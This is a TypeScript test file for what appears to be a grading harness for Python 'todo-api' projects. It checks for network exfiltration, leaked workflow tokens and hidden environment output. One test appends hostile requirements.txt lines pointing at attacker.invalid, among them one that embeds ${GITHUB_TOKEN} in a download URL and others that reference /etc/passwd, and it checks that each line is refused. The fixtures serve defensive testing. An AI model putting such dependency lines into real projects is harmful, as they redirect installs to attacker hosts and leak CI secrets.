import { appendFile, cp } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test, vi } from 'vitest';
import { expectNothingFound } from './findings.ts';
import { gradeBuilt, ROOT } from './grading.ts';
import { listen } from './listener.ts';
import { planted, scratchFolder } from './planted.ts';
import { expectWellFormed } from './well-formed.ts';

vi.setConfig({ testTimeout: 120_000 });

test('nobody outside can be called', async () => {
  const outside = await listen();
  await expectNothingFound('exfiltration/network', outside.tell);
  expect(outside.visitors()).toBe(0);
});

test("the workflow's token is nowhere to be found", () => expectNothingFound('exfiltration/secrets'));

test('an app without walls can read the token of the grader: what it says of it is hidden', async () => {
  const module = join(import.meta.dirname, 'modules/reads-environment.py');
  const run = await gradeBuilt(await planted('todo-api', module), {
    engine: 'process',
    only: ['model', 'list'],
  });
  await expectWellFormed(run);
  expect(run.files['report.json']).toContain(String.raw`\"said\": [\"(hidden)\"`);
  expect(run.stdout).toContain('(hidden)');
  expect(run.exitCode).toBe(1);
});

test('requirements that lead elsewhere are refused line by line', async () => {
  const folder = await scratchFolder();
  await cp(join(ROOT, 'fixtures/todo-api/reference'), folder, { recursive: true });
  const lines = [
    '--index-url http://attacker.invalid/simple',
    '--extra-index-url http://attacker.invalid/simple',
    '--find-links http://attacker.invalid/',
    '--trusted-host attacker.invalid',
    'evil @ file:///etc/passwd',
    '-r ../../etc/passwd',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what pip would fill in
    'leak @ http://attacker.invalid/${GITHUB_TOKEN}/x.tar.gz',
    '-e /tmp',
  ];
  await appendFile(join(folder, 'requirements.txt'), `\n${lines.join('\n')}\n`);
  const run = await gradeBuilt(folder, { only: ['register', 'model'] });
  const report = await expectWellFormed(run);
  const told = [...report.notes, ...report.remedies.map(({ what, why }) => `${what}: ${why}`)].join('\n');
  for (const line of lines) expect(told).toContain(line.replace(/^-[re] /, ''));
  expect(run.exitCode).toBe(0);
});
